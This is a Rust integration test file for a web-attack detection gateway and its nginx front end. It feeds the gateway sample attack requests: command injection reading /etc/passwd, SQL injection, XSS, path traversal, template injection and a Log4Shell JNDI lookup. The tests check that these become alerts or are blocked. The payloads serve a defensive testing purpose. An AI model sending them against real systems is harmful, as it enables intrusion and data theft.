//! Web protection end to end: an attack that is asked about becomes an alert, and nginx lets nothing through that the
//! gateway blocks.

use crate::server::Server;
use futures::StreamExt;
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// An admin, by token.
struct Admin {
    agent: ureq::Agent,
    url: String,
    token: String,
}

impl Admin {
    fn of(server: &Server) -> Self {
        let agent = server.client().agent;
        let body = json!({"user": "admin", "password": server.password().unwrap()}).to_string();
        let mut answer = agent.post(format!("{}/api/v1/token", server.url)).header("content-type", "application/json").send(body.as_bytes()).unwrap();
        let answer: Value = serde_json::from_str(&answer.body_mut().read_to_string().unwrap()).unwrap();
        Self { agent, url: server.url.clone(), token: format!("Bearer {}", answer["access_token"].as_str().unwrap()) }
    }

    fn send(&self, verb: &str, path: &str, body: &Value) -> Value {
        let url = format!("{}{path}", self.url);
        let request = if verb == "PUT" { self.agent.put(url) } else { self.agent.post(url) };
        let mut answer = request.header("authorization", &self.token).header("content-type", "application/json").send(body.to_string().as_bytes()).unwrap();
        let text = answer.body_mut().read_to_string().unwrap();
        assert!(answer.status().is_success(), "{path}: {} {text}", answer.status());
        serde_json::from_str(&text).unwrap_or(Value::Null)
    }
}

fn question(uri: &str, ip: &str) -> Vec<u8> {
    json!({"method": "GET", "uri": uri, "http_version": "1.1", "client_ip": ip, "headers": [["Host", "shop.example"], ["User-Agent", "Mozilla/5.0"]],
        "response": {"status": 500, "headers": []}}).to_string().into_bytes()
}

#[test]
fn an_attack_that_an_agent_asks_about_is_an_alert_on_the_socket() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path());
    let (client, admin) = (server.client(), Admin::of(&server));
    let made = admin.send("POST", "/api/v1/agents", &json!({"name": "shop-1", "application": "shop"}));
    let (id, secret) = (made["agent"]["id"].as_str().unwrap(), made["secret"].as_str().unwrap());
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let url = format!("{}/api/v1/live?topics=alert&token={}", server.url.replace("http", "ws"), client.key);
    let (mut socket, _) = runtime.block_on(tokio_tungstenite::connect_async(url)).unwrap();
    let body = question("/ping?host=127.0.0.1;cat%20/etc/passwd", "203.0.113.77");
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
    let signature = api::sign_as_agent(id, secret, "POST", "/api/v1/inspect", &body, now, "nonce-0123456789");
    let sent = Instant::now();
    let mut answer = client.agent.post(format!("{}/api/v1/inspect", server.url)).header("authorization", &signature).send(&body[..]).unwrap();
    let told: Value = serde_json::from_str(&answer.body_mut().read_to_string().unwrap()).unwrap();
    assert_eq!((&told["verdict"], &told["action"]), (&json!("attack"), &json!("allow")), "{told}");
    // The rule of its kind, and the one that sees that the server failed after it.
    let wanted = ["waf_code_injection", "waf_attack_worked"];
    let alerts = runtime.block_on(async {
        let mut alerts: Vec<Value> = Vec::new();
        tokio::time::timeout(Duration::from_secs(10), async {
            while !wanted.iter().all(|name| alerts.iter().any(|alert| alert["rule"]["file"].as_str().unwrap_or_default().contains(name))) {
                let text = socket.next().await.unwrap().unwrap().into_text().unwrap();
                let message: Value = serde_json::from_str(&text).unwrap_or_default();
                if message["topic"] == "alert" {
                    alerts.push(message["data"]["alert"].clone());
                }
            }
        })
        .await
        .unwrap_or_else(|_| panic!("{alerts:#?}"));
        alerts
    });
    println!("question to alert on the socket: {} ms", sent.elapsed().as_millis());
    let worked = alerts.iter().find(|alert| alert["rule"]["file"].as_str().unwrap().contains("waf_attack_worked")).unwrap();
    assert_eq!((&worked["severity"], &worked["entity"]["value"]), (&json!("high"), &json!("203.0.113.77")), "{worked:#}");
    assert!(worked["rule"]["techniques"].as_array().unwrap().contains(&json!("T1190")));
    // More kinds from the same address are a scanner.
    for (n, uri) in ["/x?id=1%27%20or%20%271%27=%271", "/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "/x?f=../../../etc/passwd", "/x?n=%7B%7B7*7%7D%7D", "/x?n=$%7Bjndi:ldap://h.example/a%7D"].iter().enumerate() {
        let body = question(uri, "203.0.113.77");
        let signature = api::sign_as_agent(id, secret, "POST", "/api/v1/inspect", &body, now, &format!("nonce-more-0123456{n}"));
        let status = client.agent.post(format!("{}/api/v1/inspect", server.url)).header("authorization", &signature).send(&body[..]).unwrap().status();
        assert_eq!(status, 200);
    }
    let found = client.until("/api/v1/alerts?limit=100", |page| {
        page["items"].as_array().unwrap().iter().any(|alert| alert["rule"]["file"].as_str().unwrap_or_default().contains("waf_many_kinds_of_attack"))
    });
    assert!(!found["items"].as_array().unwrap().is_empty());
    server.stop();
}

/// nginx in front of an application, run by a script of ours until this is dropped.
struct Nginx {
    child: Child,
    url: String,
}

impl Nginx {
    fn start(server: &Server, key: &str) -> Self {
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/nginx.sh");
        let port = server.url.rsplit(':').next().unwrap().trim_end_matches('/');
        let mut child = Command::new(path).args([port, key, "shop"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        let mut url = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut url).unwrap();
        assert!(url.contains("://"), "scripts/nginx.sh did not start");
        Self { child, url: url.trim().to_owned() }
    }
}

impl Drop for Nginx {
    fn drop(&mut self) {
        if let Some(mut input) = self.child.stdin.take() {
            let _ = input.flush();
        }
        let _ = self.child.wait();
    }
}

#[test]
fn nginx_asks_before_it_passes_a_request_on() {
    let dir = tempfile::tempdir().unwrap();
    let mut server = Server::start(dir.path());
    let (client, admin) = (server.client(), Admin::of(&server));
    let profile = admin.send("POST", "/api/v1/profiles", &json!({"name": "nginx", "template": "protect"}));
    admin.send("PUT", "/api/v1/applications/shop", &json!({"profile": profile["id"]}));
    let key = admin.send("POST", "/api/v1/keys", &json!({"name": "nginx", "scopes": ["inspect"]}));
    let nginx = Nginx::start(&server, key["key"].as_str().unwrap());
    let get = |path: &str, headers: &[(&str, &str)]| {
        let mut request = client.agent.get(format!("{}{path}", nginx.url));
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let mut answer = request.call().unwrap();
        (answer.status().as_u16(), answer.body_mut().read_to_string().unwrap())
    };
    const ATTACK: &str = "/items?id=1%27%20UNION%20SELECT%20a,b%20FROM%20users--%20";
    assert_eq!(get("/items?id=1", &[]), (200, "hello\n".to_owned()));
    // Credentials of the application's own users go through unharmed.
    assert_eq!(get("/items?id=1", &[("authorization", "Basic dTpw"), ("cookie", "erne_session=x; sid=5")]).0, 200);
    assert_eq!(get(ATTACK, &[]).0, 403);
    assert_eq!(get("/items", &[("cookie", "id=1%27%20or%20%271%27=%271")]).0, 403);
    assert_eq!(get("/open/a?id=1", &[]).0, 200);
    assert_eq!(get(&format!("/open{ATTACK}"), &[]).0, 403);
    let posted = client.agent.post(format!("{}{ATTACK}", nginx.url)).send(&b"x=1"[..]).unwrap();
    assert_eq!(posted.status(), 403, "the method is the client's");
    let event = client.until("/api/v1/search?q=status_detail:blocked%20AND%20http_request.http_method:POST", |page| page["items"].as_array().unwrap().len() == 1);
    assert_eq!((&event["items"][0]["metadata"]["log_name"], &event["items"][0]["src_endpoint"]["ip"]), (&json!("web:shop"), &json!("127.0.0.1")));
    // nginx answers 500 when its question has no answer, unless the location says that it may pass then.
    server.kill();
    assert_eq!(get("/items?id=1", &[]).0, 500);
    assert_eq!(get("/open/a?id=1", &[]).0, 200);
    assert_eq!(get(&format!("/open{ATTACK}"), &[]).0, 200);
}
